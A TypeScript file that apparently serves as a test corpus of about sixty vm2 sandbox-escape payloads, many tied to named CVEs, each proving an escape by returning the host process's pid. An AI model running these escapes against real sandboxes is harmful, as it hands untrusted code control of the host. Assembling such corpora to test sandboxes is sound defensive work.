/** What an escape does once it has the host's `process`: its result then says so. */
const WIN = `return "ESCAPED " + p.pid + p.version;`;
const FROM = (fn: string): string => `const p = (${fn})("return process")(); ${WIN}`;
const STACK = '(function stack() { new Error().stack; stack(); })();';

/** Ways out of vm2 that its advisories and issues tell of, each a body of a function. */
export const ESCAPES: Readonly<Record<string, string>> = {
  'constructor of the global': FROM('this.constructor.constructor'),
  'constructor of a function': FROM('(() => {}).constructor'),
  'generator functions': `const F = (function* () {}).constructor; const p = F("return process")().next().value; ${WIN}`,
  'async functions': `const F = (async () => {}).constructor; F("return process")().then((p) => { globalThis.won = "ESCAPED " + p.pid }); return globalThis.won;`,
  Buffer: FROM('Buffer.from("").constructor.constructor'),
  'Buffer.from': FROM('Buffer.from.constructor'),
  'a getter of Buffer': `const get = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Uint8Array.prototype), "length").get; ${FROM('get.constructor')}`,
  VMError: FROM('VMError.constructor.constructor'),
  'VMError stack': `try { new VMError("x").x.y } catch (e) { ${FROM('e.constructor.constructor')} }`,
  callers: `function f() { return f.caller && f.caller.arguments } const a = f(); ${FROM('a.constructor.constructor')}`,
  'arguments.callee': `return (function () { ${FROM('arguments.callee.caller.constructor')} })();`,
  'CVE-2019-10761 host RangeError': `
    const f = Buffer.prototype.write;
    const ft = { length: 10, utf8Write() {} };
    function r(i) { let x = 0; try { x = r(i); } catch (e) {}
      if (typeof x !== "number") return x; if (x !== i) return x + 1;
      try { f.call(ft); } catch (e) { return e; } return null; }
    for (let i = 1; i < 20; i++) { try { ${FROM('r(i).constructor.constructor')} } catch (x) {} }
    throw new Error("no");`,
  'CVE-2021-23449 import()': `const res = import("./foo.js"); ${FROM('res.toString.constructor')}`,
  'CVE-2021-23555 Symbol.species': `
    class A extends Array { static get [Symbol.species]() { return function (n) { return this; } } }
    const host = Buffer.from([1, 2, 3]).map.call(new A(1, 2), (x) => x); ${FROM('host.constructor.constructor')}`,
  'CVE-2022-25893 WeakMap.prototype.set': `
    let stolen; WeakMap.prototype.set = function (k, v) { stolen = [k, v]; return this; };
    Map.prototype.set = function (k, v) { stolen = [k, v]; return this; };
    Buffer.from("a"); Object.create(Buffer); for (const s of stolen) { ${FROM('s.constructor.constructor')} }`,
  'CVE-2022-36067 prepareStackTrace on a new Error': `
    const Old = globalThis.Error; globalThis.Error = {};
    globalThis.Error.prepareStackTrace = (e, t) => { for (const f of t) { const self = f.getThis && f.getThis(); if (self && self.process) return "ESCAPED " + self.process.pid } return "no"; };
    const { stack } = new Old(""); return stack;`,
  'CVE-2023-29017 prepareStackTrace on an async error': `
    Error.prepareStackTrace = (e, frames) => { const p = frames.constructor.constructor("return process")(); globalThis.won = "ESCAPED " + p.pid; };
    (async () => { ${STACK} })(); return globalThis.won;`,
  'CVE-2023-29017 without async': `
    Error.prepareStackTrace = (e, frames) => { const p = frames.constructor.constructor("return process")(); return "ESCAPED " + p.pid; };
    return new Error("x").stack;`,
  'CVE-2023-29199 handler name': `
    aVM2_INTERNAL_TMPNAME = {}; function stack() { new Error().stack; stack(); }
    try { stack(); } catch (a$tmpname) { ${FROM('a$tmpname.constructor.constructor')} }`,
  'CVE-2023-30547 getPrototypeOf': `
    const handler = { getPrototypeOf(target) { ${STACK} } };
    try { throw new Proxy({}, handler); } catch ({ constructor: c }) { ${FROM('c.constructor')} }`,
  'CVE-2023-32313 inspect': `inspect.customInspect = false; ${FROM('inspect.constructor')}`,
  'CVE-2023-32314 apply of a proxy': `
    const err = new Error();
    err.name = { toString: new Proxy(() => "", { apply(target, self, args) { const p = args.constructor.constructor("return process")(); throw "ESCAPED " + p.pid; } }) };
    try { err.stack; } catch (won) { return won; }`,
  'CVE-2023-37466 species of a promise': `
    const fn = async () => { ${STACK} };
    const p0 = fn();
    p0.constructor = { [Symbol.species]: class { constructor(run) { run((x) => x, (e) => { const p = e.constructor.constructor("return process")(); globalThis.won = "ESCAPED " + p.pid; }); } } };
    p0.then(); return globalThis.won;`,
  'CVE-2023-37466 Promise without async': `
    const p0 = new Promise((_, no) => { try { ${STACK} } catch (e) { no(e) } });
    p0.constructor = { [Symbol.species]: class { constructor(run) { run((x) => x, (e) => { const p = e.constructor.constructor("return process")(); globalThis.won = "ESCAPED " + p.pid; }); } } };
    p0.then(() => {}); return globalThis.won;`,
  'CVE-2023-37903 inspect.custom': `
    const obj = { [Symbol.for("nodejs.util.inspect.custom")]: (d, o, inspect) => { const p = inspect.constructor("return process")(); globalThis.won = "ESCAPED " + p.pid; }, valueOf: undefined, constructor: undefined };
    WebAssembly.compileStreaming(obj).catch(() => {}); return globalThis.won;`,
  'inspect.custom in a thrown value': `
    throw { [Symbol.for("nodejs.util.inspect.custom")]: (d, o, inspect) => { const p = inspect.constructor("return process")(); globalThis.won = "ESCAPED " + p.pid; return "" }, toString() { return globalThis.won } };`,
  'CVE-2026-22709 catch of an async stack': `
    const e = new Error(); e.name = Symbol();
    (async () => e.stack)().catch((h) => { const p = h.constructor.constructor("return process")(); globalThis.won = "ESCAPED " + p.pid; });
    return globalThis.won;`,
  'CVE-2026-22709 Promise.prototype.then': `
    Promise.prototype.then = function (a, b) { globalThis.stolen = [a, b]; return this };
    const e = new Error(); e.name = Symbol(); Promise.resolve().then(() => e.stack);
    ${FROM('globalThis.stolen[0].constructor')}`,
  'stack with a symbol as its name': `
    const e = new Error(); e.name = Symbol(); try { e.stack } catch (h) { ${FROM('h.constructor.constructor')} }`,
  'stack overflow in the host': `
    function deep() { try { Buffer.alloc(1); deep(); } catch (h) { try { const F = h.constructor.constructor; const p = F("return process")(); globalThis.won = "ESCAPED " + p.pid } catch {} } }
    deep(); return globalThis.won;`,
  'stack overflow in a proxy': `
    const p0 = new Proxy(Buffer, { get(t, k) { ${STACK} } });
    try { p0.x } catch (h) { ${FROM('h.constructor.constructor')} }`,
  'Array.prototype setter': `
    let won; Object.defineProperty(Array.prototype, "0", { set(v) { won = v }, get() { return won }, configurable: true });
    try { Buffer.from("abc").toString(); Buffer.concat([Buffer.from("a")]); } catch {}
    ${FROM('won.constructor.constructor')}`,
  'Object.prototype get and set': `
    let won; Object.defineProperty(Object.prototype, "get", { get() { won = this; }, configurable: true });
    Object.defineProperty(Object.prototype, "value", { set(v) { won = v; }, configurable: true });
    try { Buffer.from("a"); Object.defineProperty(Buffer, "x", { enumerable: true }); } catch {}
    ${FROM('won.constructor.constructor')}`,
  'Function.prototype.call': `
    let won; const real = Function.prototype.call; Function.prototype.call = function (...a) { won = [this, ...a]; return Reflect.apply(this, a[0], a.slice(1)); };
    try { Buffer.from("a").toString("hex"); new VMError("x"); } catch {}
    for (const w of won) { ${FROM('w.constructor.constructor')} }`,
  'Reflect and Proxy replaced': `
    let won = []; for (const k of Object.getOwnPropertyNames(Reflect)) { const f = Reflect[k]; if (typeof f === "function") Reflect[k] = (...a) => { won.push(...a); return f(...a); }; }
    try { Buffer.from("a").x = 1; } catch {}
    for (const w of won) { try { ${FROM('w.constructor.constructor')} } catch {} } throw new Error("no");`,
  'Symbol.hasInstance': `
    let won; try { Buffer.from("a") instanceof { [Symbol.hasInstance](v) { won = v; return true } } } catch {}
    ${FROM('won.constructor.constructor')}`,
  'the receiver of a trap': `
    let won; const o = Object.create(new Proxy({}, { get(t, k, r) { won = r; return 1 }, has() { return true } })); o.x;
    ${FROM('won.constructor.constructor')}`,
  'a proxy as prototype of Buffer': `
    let won = []; const trap = new Proxy({}, { get: (t, k) => (...a) => { won.push(a); return {} } });
    try { Object.setPrototypeOf(Buffer, new Proxy({}, trap)); Buffer.x; } catch {}
    for (const w of won.flat()) { try { ${FROM('w.constructor.constructor')} } catch {} } throw new Error("no");`,
  'getOwnPropertyDescriptor of the host': `
    const d = Object.getOwnPropertyDescriptor(Buffer, "from"); ${FROM('d.value.constructor')}`,
  __lookupGetter__: `
    const get = Buffer.__lookupGetter__("poolSize") ?? Buffer.from("a").__lookupGetter__("buffer"); ${FROM('get.constructor')}`,
  '__proto__ of the host': FROM('Buffer.__proto__.constructor'),
  'toString that throws': `
    try { Buffer.from({ toString() { throw 1 }, [Symbol.toPrimitive]() { ${STACK} } }) } catch (h) { ${FROM('h.constructor.constructor')} }`,
  'length that throws': `
    try { Buffer.from({ get length() { ${STACK} } }) } catch (h) { ${FROM('h.constructor.constructor')} }`,
  captureStackTrace: `
    const o = {}; Error.captureStackTrace(o); Error.prepareStackTrace = (e, f) => f;
    const f = o.stack; ${FROM('f[0].getFunction().constructor')}`,
  'CallSite.getThis': `
    Error.prepareStackTrace = (e, frames) => frames; const frames = new Error().stack;
    for (const f of frames) { const t = f.getThis(); if (t && t.process) return "ESCAPED " + t.process.pid } throw new Error("no");`,
  'internal state of vm2': `${FROM('VM2_INTERNAL_STATE_DO_NOT_USE_OR_PROGRAM_WILL_FAIL.handleException.constructor')}`,
  'internal state, escaped': `${FROM('VM2_INTERNAL_STATE_DO_NOT_USE_OR_PROGRAM_WILL_F\\u0041IL.wrapWith.constructor')}`,
  eval: `const p = eval("process"); ${WIN}`,
  'indirect eval': `const p = (0, eval)("this.process"); ${WIN}`,
  WebAssembly: `
    const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]); const m = new WebAssembly.Module(bytes); ${FROM('m.constructor.constructor')}`,
  FinalizationRegistry: `
    const r = new FinalizationRegistry((v) => { globalThis.won = v.constructor.constructor("return process")().pid }); r.register({}, {});
    return globalThis.won ? "ESCAPED " + globalThis.won : "no";`,
  'Array.fromAsync': `
    Array.fromAsync({ get length() { ${STACK} } }).then(undefined, (h) => { globalThis.won = "ESCAPED " + h.constructor.constructor("return process")().pid }); return globalThis.won;`,
  'Promise.try': `
    Promise.try(() => { ${STACK} }).then(undefined, (h) => { globalThis.won = "ESCAPED " + h.constructor.constructor("return process")().pid }); return globalThis.won;`,
  'suppressed error': `
    const e = new SuppressedError(new Error(), new Error(), "x"); ${FROM('e.error.constructor.constructor')}`,
  'aggregate of host errors': `
    Promise.any([]).catch((h) => { globalThis.won = "ESCAPED " + h.constructor.constructor("return process")().pid }); return globalThis.won;`,
  require: `const p = require("process"); ${WIN}`,
  'process by name': `const p = process; ${WIN}`,
  getBuiltinModule: `const p = globalThis.process.getBuiltinModule("process"); ${WIN}`,
};
